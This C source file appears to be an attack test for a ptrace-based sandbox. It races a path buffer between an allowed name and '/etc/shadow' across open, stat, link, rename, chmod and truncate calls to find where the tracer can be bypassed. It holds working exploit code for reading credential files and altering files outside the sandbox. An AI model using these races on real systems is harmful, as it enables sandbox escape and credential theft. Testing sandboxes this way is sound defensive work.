/*
 * race-path: change a path argument in memory while the tracer looks at it (THREATS D).
 *
 * usage: race-path MODE VICTIM [SUB-ATTACK...]
 *   thread      a second thread of this process flips the path buffer (a MAP_SHARED page)
 *   process     a forked process flips it through a MAP_SHARED anonymous page
 *   file        a forked process flips it with pwrite() into a file that this process has
 *               mapped MAP_PRIVATE and read-only: no thread, no shared mapping, and still the
 *               memory changes (a private mapping shows the page cache until it is written)
 *   thread-ro   a second thread flips a MAP_PRIVATE anonymous buffer
 *   clonevm     a process made with clone(CLONE_VM|SIGCHLD) (no CLONE_THREAD, a stack of
 *               its own) flips a MAP_PRIVATE anonymous buffer
 *   process-ro  like process
 *   file-linked like file, with the name in a private mapping of a file OUTSIDE every
 *               writable directory, written through a second hard link to it that the
 *               driver (attack_run.py, as root) made in the working directory beforehand:
 *               a file nobody may write by its own name is not fixed if it has another
 *               name (the tracer must check the link count)
 *
 * The flipper writes, as fast as it can and with no system call, either one of two names
 * into the buffer the main thread passes to the kernel: an allowed one ("allowed.txt" in the
 * working directory) and a refused one ("/etc/shadow").  A tracer that judges one reading
 * of the buffer and lets the kernel read the buffer again is beaten: the kernel must read a
 * copy the tracee cannot change (the arena).  The "-empty" attacks flip only the first byte
 * ("" vs "/etc/shadow"): an empty name is where a tracer may think there is nothing to judge.
 *
 * file, thread-ro, clonevm and process-ro use an allowed name outside every writable
 * directory ("/etc/hostname").  For such a read a tracer may stop rewriting and let the
 * kernel read the tracee's own name (the single-stop path), which is safe only while no
 * other task can change that memory.  Each of these modes defeats one condition of it:
 * thread-ro and clonevm keep the name in private anonymous memory, so only "no other task
 * shares the address space" (a thread, a CLONE_VM process) stops them; process-ro and file
 * share no address space, so only "the name lies in private anonymous memory" stops them.
 * thread-ro, clonevm and process-ro run the reads (open, openat, openat2, stat, newfstatat,
 * statx, and on x86_64 open(2) and stat(2) themselves: open-syscall, stat-syscall) and the
 * /dev/null attacks, ATK_SECONDS_RO each (a single-stop tracer lets the kernel read the name
 * a whole ptrace stop after its own reading: a good share of all tries would win); the
 * other modes run everything, ATK_SECONDS each.
 *
 * Each sub-attack runs ATK_ITER times or for its budget, whichever ends first, and stops at
 * the first escape.  Verdicts by side effect: a read that returns a shadow line, an fd or a
 * stat result whose inode is /etc/shadow's (from a listing of /etc), a hard link to it in
 * the working directory, a canary in /etc, a VICTIM/t file whose state changed.
 */
#include <linux/openat2.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "atk.h"

#define ATK_ITER 100000
#define ATK_SECONDS 0.2
#define ATK_SECONDS_RO 0.1

#define SECRET "/etc/shadow"
#define ALLOWED "allowed.txt" /* same length as SECRET: every mix of the two is a name too */
#define CANARY ATK_CANARY_PREFIX "race-rename"
#define LOCAL_T "rename-target-in-the-workdir-x" /* rename's allowed target */
#define OUTSIDE "/etc/hostname" /* an allowed name outside every writable directory */
#define CLONE_STACK (64 * 1024)

enum flipper { FLIP_THREAD, FLIP_CLONEVM, FLIP_PROCESS, FLIP_FILE };

static const struct mode {
	const char *name;
	enum flipper flipper;
	bool shared;  /* the buffer is a MAP_SHARED page (else MAP_PRIVATE) */
	bool outside; /* the allowed name is OUTSIDE, not ALLOWED in the working directory */
	bool all;     /* every sub-attack, not only the reads and /dev/null */
	double seconds; /* each sub-attack's budget */
} modes[] = {
	{ "thread", FLIP_THREAD, true, false, true, ATK_SECONDS },
	{ "process", FLIP_PROCESS, true, false, true, ATK_SECONDS },
	{ "file", FLIP_FILE, false, true, true, ATK_SECONDS },
	{ "thread-ro", FLIP_THREAD, false, true, false, ATK_SECONDS_RO },
	{ "clonevm", FLIP_CLONEVM, false, true, false, ATK_SECONDS_RO },
	{ "process-ro", FLIP_PROCESS, true, true, false, ATK_SECONDS_RO },	{ "file-linked", FLIP_FILE, false, true, false, ATK_SECONDS_RO },
};
static const struct mode *M;

struct shared {
	volatile int stop;
	volatile int running; /* the flipper has started */
	volatile int mode; /* 0 idle, 1 flip whole names, 2 flip the first byte */
	char a[64], b[64];
	char buf[256] __attribute__((aligned(64)));
};
static struct shared *sh;
static char *P;             /* the name passed to the kernel: sh->buf, or the file mapping */
static bool file_mode;
static int file_fd;
static pid_t writer = -1;
static const char *allowed = ALLOWED; /* file mode: a name the tracer may pass on as is */
static ino_t shadow_ino;
static const char *V;
static char victim[4096];
static struct atk_fstate victim_before;

static void flip_forever(void)
{
	size_t la, lb;
	sh->running = 1;
	while (!sh->stop) {
		switch (sh->mode) {
		case 1:
			la = strlen(sh->a) + 1;
			lb = strlen(sh->b) + 1;
			memcpy(sh->buf, sh->a, la);
			__asm__ volatile("" ::: "memory");
			memcpy(sh->buf, sh->b, lb);
			__asm__ volatile("" ::: "memory");
			break;
		case 2:
			sh->buf[0] = '\0';
			__asm__ volatile("" ::: "memory");
			sh->buf[0] = '/';
			__asm__ volatile("" ::: "memory");
			break;
		default:
			__asm__ volatile("pause");
		}
	}
}

static void *flip_thread(void *arg)
{
	(void)arg;
	flip_forever();
	return NULL;
}

/* A flipper process must not outlive us (a failed run ends without stopping it). */
static void flipper_orphan_guard(pid_t parent)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (getppid() != parent)
		syscall(SYS_exit, 0);
}

/* clonevm: a task of its own in our address space.  It runs on our TLS, so it calls
 * nothing of libc that keeps state (errno aside), and returns: glibc's clone() then ends
 * it with exit(2), never exit_group(2), which would take us with it. */
static int flip_clone(void *arg)
{
	flipper_orphan_guard((pid_t)(long)arg);
	flip_forever();
	return 0;
}

/* file mode: a child writes the two names into the file, over and over */
static void file_writer(int mode, const char *a, const char *b)
{
	char ba[64], bb[64];
	size_t la = strlen(a) + 1, lb = strlen(b) + 1;
	memcpy(ba, a, la);
	memcpy(bb, b, lb);
	if (pwrite(file_fd, bb, lb, 0) != (ssize_t)lb) /* the whole refused name first */
		tt_fail("pwrite flip.bin: %s", strerror(errno));
	if (mode == 2) { /* then only its first byte flips */
		ba[0] = '\0';
		la = lb = 1;
	}
	if (writer > 0) {
		kill(writer, SIGKILL);
		tt_wait(writer, 0);
		writer = -1;
	}
	if (mode == 0)
		return;
	writer = tt_fork();
	if (writer == 0) {
		for (;;) {
			if (pwrite(file_fd, ba, la, 0) < 0 || pwrite(file_fd, bb, lb, 0) < 0)
				_exit(1);
		}
	}
}

static void set_flip(int mode, const char *a, const char *b)
{
	if (file_mode) {
		file_writer(mode, a, b);
		return;
	}
	sh->mode = 0;
	__sync_synchronize();
	snprintf(sh->a, sizeof sh->a, "%s", a);
	snprintf(sh->b, sizeof sh->b, "%s", b);
	memcpy(sh->buf, b, strlen(b) + 1);
	__sync_synchronize();
	sh->mode = mode;
}

/* Is this stat result /etc/shadow? */
static bool is_shadow(dev_t dev, ino_t ino)
{
	static dev_t etc_dev = (dev_t)-1;
	if (etc_dev == (dev_t)-1) {
		struct stat st;
		etc_dev = stat("/etc", &st) == 0 ? st.st_dev : 0;
	}
	return ino == shadow_ino && dev == etc_dev;
}

/* An fd the kernel gave us: an escape if it is the secret, or reads like it. */
static bool judge_fd(const char *name, int fd)
{
	struct stat st;
	bool leaked = false;
	if (atk_fstat(fd, &st) == 0 && is_shadow(st.st_dev, st.st_ino)) {
		atk_escaped(name, "SECRET LEAKED: the kernel opened /etc/shadow (fd %d)", fd);
		leaked = true;
	}
	if (!leaked)
		leaked = atk_read_scan(name, fd);
	close(fd);
	return leaked;
}

typedef bool (*attempt_fn)(const char *name, long *nok);

/* Run one sub-attack under the current flip mode until an escape or the budget is used. */
static void run_attack(const char *name, int mode, const char *a, const char *b, attempt_fn fn)
{
	long i, nok = 0;
	bool esc = false;
	double t0 = atk_now();

	if (!atk_want(name))
		return;
	set_flip(mode, a, b);
	for (i = 0; i < ATK_ITER && !esc; i++) {
		esc = fn(name, &nok);
		if ((i & 63) == 0 && atk_now() - t0 > M->seconds)
			break;
	}
	if (file_mode)
		file_writer(0, "", "");
	else
		sh->mode = 0;
	if (!esc)
		atk_held(name, "%ld tries in %.2fs, %ld succeeded on the allowed name", i,
			 atk_now() - t0, nok);
}

/* ---- the attempts --------------------------------------------------------------------- */

static bool try_open(const char *name, long *nok)
{
	int fd = open(P, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	++*nok;
	return judge_fd(name, fd);
}

static bool try_openat(const char *name, long *nok)
{
	int fd = openat(AT_FDCWD, P, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	++*nok;
	return judge_fd(name, fd);
}

static bool try_openat2(const char *name, long *nok)
{
	struct open_how how = { .flags = O_RDONLY | O_CLOEXEC };
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, P, &how, sizeof how);
	if (fd < 0)
		return false;
	++*nok;
	return judge_fd(name, fd);
}

#ifdef __x86_64__
/* open(2) and stat(2) themselves: libc's open() and stat() are openat and newfstatat */
static bool try_open_syscall(const char *name, long *nok)
{
	int fd = (int)syscall(SYS_open, P, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	++*nok;
	return judge_fd(name, fd);
}

static bool try_stat_syscall(const char *name, long *nok)
{
	struct stat st; /* the kernel's struct stat on x86_64 */
	if (syscall(SYS_stat, P, &st) < 0)
		return false;
	++*nok;
	if (is_shadow(st.st_dev, st.st_ino)) {
		atk_escaped(name, "stat(2) of /etc/shadow succeeded");
		return true;
	}
	return false;
}
#endif

static bool try_stat(const char *name, long *nok)
{
	struct stat st;
	if (stat(P, &st) < 0)
		return false;
	++*nok;
	if (is_shadow(st.st_dev, st.st_ino)) {
		atk_escaped(name, "stat of /etc/shadow succeeded (metadata of a refused file)");
		return true;
	}
	return false;
}

static bool try_newfstatat(const char *name, long *nok)
{
	struct stat st;
	if (fstatat(AT_FDCWD, P, &st, 0) < 0)
		return false;
	++*nok;
	if (is_shadow(st.st_dev, st.st_ino)) {
		atk_escaped(name, "newfstatat of /etc/shadow succeeded");
		return true;
	}
	return false;
}

static bool try_statx(const char *name, long *nok)
{
	struct statx sx;
	if (statx(AT_FDCWD, P, 0, STATX_INO, &sx) < 0)
		return false;
	++*nok;
	if (is_shadow(makedev(sx.stx_dev_major, sx.stx_dev_minor), sx.stx_ino)) {
		atk_escaped(name, "statx of /etc/shadow succeeded");
		return true;
	}
	return false;
}

/* statx(AT_FDCWD, name, AT_EMPTY_PATH): "" means the cwd, anything else is a path. */
static bool try_statx_empty(const char *name, long *nok)
{
	struct statx sx;
	if (statx(AT_FDCWD, P, AT_EMPTY_PATH, STATX_INO, &sx) < 0)
		return false;
	++*nok;
	if (is_shadow(makedev(sx.stx_dev_major, sx.stx_dev_minor), sx.stx_ino)) {
		atk_escaped(name, "statx(AT_EMPTY_PATH) reached /etc/shadow");
		return true;
	}
	return false;
}

/* link(NAME, "lnk"): a hard link to the secret in the working directory is a read of it. */
static bool try_link(const char *name, long *nok)
{
	struct stat st;
	bool leaked = false;
	if (link(P, "lnk") < 0)
		return false;
	++*nok;
	if (lstat("lnk", &st) == 0 && is_shadow(st.st_dev, st.st_ino)) {
		int fd = open("lnk", O_RDONLY | O_CLOEXEC);
		atk_escaped(name, "link() made a hard link to /etc/shadow in the working directory");
		if (fd >= 0)
			judge_fd(name, fd);
		leaked = true;
	}
	unlink("lnk");
	return leaked;
}

/* rename("src", NAME): NAME is a name in the workdir or a canary in /etc. */
static bool try_rename(const char *name, long *nok)
{
	if (rename("src", P) < 0)
		return false;
	++*nok;
	if (rename(LOCAL_T, "src") == 0) /* it went where we named it: put it back */
		return false;
	atk_put("src", "src\n", 0644);
	if (atk_etc_ino(CANARY + 5)) {
		atk_escaped(name, "rename() moved a file of the workdir to " CANARY);
		return true;
	}
	return false;
}

/* chmod/truncate(NAME) with NAME "" or VICTIM/t/fNN: any change of the victim escapes */
static bool victim_check(const char *name, long *nok)
{
	struct atk_fstate now;
	const char *d;
	++*nok;
	now = atk_fstate(victim);
	d = atk_fstate_diff(&victim_before, &now);
	if (*d) {
		atk_escaped(name, "%s %s (outside the sandbox)", victim, d);
		return true;
	}
	return false;
}

static bool try_chmod(const char *name, long *nok)
{
	return chmod(P, 0600) == 0 && victim_check(name, nok);
}

/* chmod with /dev/null's own mode: a no-op on /dev/null, a change on the victim (0644) */
static mode_t devnull_mode;
static bool try_chmod_devnull(const char *name, long *nok)
{
	return chmod(P, devnull_mode) == 0 && victim_check(name, nok);
}

static bool try_truncate(const char *name, long *nok)
{
	return truncate(P, 0) == 0 && victim_check(name, nok);
}

static bool try_utimensat(const char *name, long *nok)
{
	struct timespec ts[2] = { { 1, 0 }, { 1, 0 } };
	return utimensat(AT_FDCWD, P, ts, 0) == 0 && victim_check(name, nok);
}

static void victim_attack(const char *name, const char *file, const char *allowed_name,
			  attempt_fn fn)
{
	snprintf(victim, sizeof victim, "%s/t/%s", V, file);
	victim_before = atk_fstate(victim);
	if (!victim_before.exists)
		tt_fail("setup: %s: %s", victim, strerror(errno));
	run_attack(name, allowed_name[0] ? 1 : 2, allowed_name, victim, fn);
}

int main(int argc, char **argv)
{
	pthread_t th;
	pid_t child = -1, parent;
	char *stack;

	tt_init(argc, argv);
	for (size_t k = 0; argc >= 2 && k < sizeof(modes) / sizeof(modes[0]); k++)
		if (strcmp(argv[1], modes[k].name) == 0)
			M = &modes[k];
	if (!M)
		tt_fail("usage: race-path thread|thread-ro|clonevm|process|process-ro|file|"
			"file-linked VICTIM [SUB-ATTACK...]");
	file_mode = M->flipper == FLIP_FILE;
	V = atk_victim_dir(argc - 1, argv + 1);
	atk_select(argc, argv, 3);
	atk_controls();
	atk_put(ALLOWED, "allowed\n", 0644);
	atk_put("src", "src\n", 0644);
	shadow_ino = atk_etc_ino("shadow");
	if (!shadow_ino)
		tt_skip("no /etc/shadow on this machine");
	tt_watchdog(50, "race-path attacks");

	/* outside every writable directory: a tracer may hand the tracee's own pointer to
	 * the kernel for it */
	if (M->outside)
		allowed = OUTSIDE;
	/* thread-ro and clonevm share no page with anyone: the name lies in private anonymous
	 * memory, and only the flipper's kind tells the tracer that this task is not alone
	 * (file mode shares no memory at all, and reads the name from a file mapping) */
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		  (M->shared ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		tt_fail("mmap: %s", strerror(errno));
	P = sh->buf;
	switch (M->flipper) {
	case FLIP_FILE:
		if (strcmp(M->name, "file-linked") == 0) {
			/* mapped through its name outside every writable directory, written
			 * through its second name in the working directory (attack_run.py) */
			const char *lf = getenv("ATK_LINKED");
			int map_fd;
			if (!lf)
				tt_fail("setup: no $ATK_LINKED (run this row through attack_run.py)");
			file_fd = open("flip-link.bin", O_RDWR | O_CLOEXEC);
			map_fd = open(lf, O_RDONLY | O_CLOEXEC);
			if (file_fd < 0 || map_fd < 0)
				tt_fail("setup: %s: %s", file_fd < 0 ? "flip-link.bin" : lf,
					strerror(errno));
			P = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, map_fd, 0);
			close(map_fd);
			if (P == MAP_FAILED)
				tt_fail("mmap %s: %s", lf, strerror(errno));
			break;
		}
		file_fd = open("flip.bin", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (file_fd < 0 || ftruncate(file_fd, 4096) < 0)
			tt_fail("setup: flip.bin: %s", strerror(errno));
		P = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file_fd, 0);
		if (P == MAP_FAILED)
			tt_fail("mmap flip.bin: %s", strerror(errno));
		break;
	case FLIP_PROCESS:
		parent = getpid();
		child = tt_fork();
		if (child == 0) {
			flipper_orphan_guard(parent);
			flip_forever();
			_exit(0);
		}
		break;
	case FLIP_CLONEVM:
		stack = mmap(NULL, CLONE_STACK, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
		if (stack == MAP_FAILED)
			tt_fail("mmap stack: %s", strerror(errno));
		parent = getpid();
		child = clone(flip_clone, stack + CLONE_STACK, CLONE_VM | SIGCHLD,
			      (void *)(long)parent);
		if (child < 0)
			tt_fail("clone(CLONE_VM|SIGCHLD): %s", strerror(errno));
		break;
	case FLIP_THREAD:
		if (pthread_create(&th, NULL, flip_thread, NULL) != 0)
			tt_fail("pthread_create failed");
		break;
	}

	/* no budget spent before the flipper runs (a watchdog, not a timeout, guards this) */
	tt_watch("the flipper to start");
	while (!file_mode && !sh->running)
		sched_yield();
	tt_watch("race-path attacks");

	/* whole names, allowed vs refused: the arena must hold */
	run_attack("open", 1, allowed, SECRET, try_open);
	run_attack("openat", 1, allowed, SECRET, try_openat);
	run_attack("openat2", 1, allowed, SECRET, try_openat2);
	run_attack("stat", 1, allowed, SECRET, try_stat);
	run_attack("newfstatat", 1, allowed, SECRET, try_newfstatat);
	run_attack("statx", 1, allowed, SECRET, try_statx);
#ifdef __x86_64__
	if (!M->all) {
		run_attack("open-syscall", 1, allowed, SECRET, try_open_syscall);
		run_attack("stat-syscall", 1, allowed, SECRET, try_stat_syscall);
	}
#endif
	if (M->all) {
		run_attack("link", 1, allowed, SECRET, try_link);
		run_attack("rename", 1, LOCAL_T, CANARY, try_rename);
		/* the first byte only: "" vs "/etc/shadow" */
		run_attack("open-empty", 2, "", SECRET, try_open);
		run_attack("stat-empty", 2, "", SECRET, try_stat);
		run_attack("statx-empty-path", 2, "", SECRET, try_statx_empty);
		run_attack("link-empty", 2, "", SECRET, try_link);
		victim_attack("chmod-empty", "f20", "", try_chmod);
		victim_attack("truncate-empty", "f21", "", try_truncate);
		victim_attack("utimensat-empty", "f22", "", try_utimensat);
	}
	/* /dev/null may be written and lies in no writable directory: a tracer may let the
	 * kernel read the name from our memory for it (chmod keeps its mode; truncate of a
	 * device does nothing) */
	{
		struct stat dn;
		if (stat("/dev/null", &dn) < 0)
			tt_fail("control failed: stat /dev/null: %s", strerror(errno));
		devnull_mode = dn.st_mode & 07777;
		if (devnull_mode == 0644)
			tt_skip("/dev/null has mode 0644, like the victims");
	}
	victim_attack("chmod-devnull", "f23", "/dev/null", try_chmod_devnull);
	victim_attack("truncate-devnull", "f24", "/dev/null", try_truncate);

	sh->stop = 1;
	switch (M->flipper) {
	case FLIP_FILE:
		file_writer(0, "", "");
		break;
	case FLIP_PROCESS:
		tt_wait_exit(child, 0, 0, "flipper process");
		break;
	case FLIP_CLONEVM:
		/* it sees the stop flag (our memory is its memory) and exits */
		tt_wait_exit(child, 0, 0, "clone(CLONE_VM) flipper");
		break;
	case FLIP_THREAD:
		pthread_join(th, NULL);
		break;
	}
	atk_finish();
}
